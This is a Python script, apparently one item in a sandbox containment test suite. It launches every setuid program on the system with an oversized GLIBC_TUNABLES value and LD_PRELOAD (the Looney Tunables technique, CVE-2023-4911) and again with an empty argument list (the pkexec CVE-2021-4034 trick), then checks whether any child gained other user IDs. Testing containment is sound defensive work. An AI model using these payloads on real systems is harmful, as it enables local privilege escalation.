# Attack: 67, a privileged program and the loader's variables
# Source: CVE-2023-4911 (Looney Tunables) and CVE-2021-4034 (pkexec without arguments)
# Tries: starts every setuid program of the system with hostile GLIBC_TUNABLES and LD_PRELOAD, and again with no arguments at all.
# Meets: such programs run as the student: nothing is setuid here, and no new privileges can be had.
# Expect: contained
import ctypes
import os
import stat

libc = ctypes.CDLL(None, use_errno=True)
libc.execve.argtypes = [ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p]
found = []
for folder in ("/usr/bin", "/usr/sbin", "/usr/lib/dbus-1.0", "/usr/libexec", "/usr/lib/openssh"):
    for entry in os.scandir(folder) if os.path.isdir(folder) else ():
        if entry.is_file(follow_symlinks=False) and entry.stat().st_mode & (stat.S_ISUID | stat.S_ISGID):
            found.append(entry.path)
tunables = "glibc.malloc.mxfast=glibc.malloc.mxfast=" + "A" * 4000
variables = [f"GLIBC_TUNABLES={tunables}".encode(), b"LD_PRELOAD=/tmp/none.so", None]
environment = (ctypes.c_char_p * 3)(*variables)
nobody = (ctypes.c_char_p * 1)(None)
children = {}
for path in found:
    for arguments in ((ctypes.c_char_p * 2)(path.encode(), None), nobody):
        child = os.fork()
        if not child:
            null = os.open("/dev/null", os.O_RDWR)
            for number in range(3):
                os.dup2(null, number)
            libc.alarm(1)
            libc.execve(path.encode(), arguments, environment)
            os._exit(1)
        children[child] = path
worked = []
for child, path in children.items():
    # What it became is read while it is not reaped yet.
    os.waitid(os.P_PID, child, os.WEXITED | os.WNOWAIT)
    with open(f"/proc/{child}/status") as status:
        ids = next(line for line in status if line.startswith("Uid:")).split()[1:]
    if set(ids) != {"1000"}:
        worked.append(path)
    os.waitpid(child, 0)
print("ESCAPED: " + ", ".join(worked) if worked else "contained")
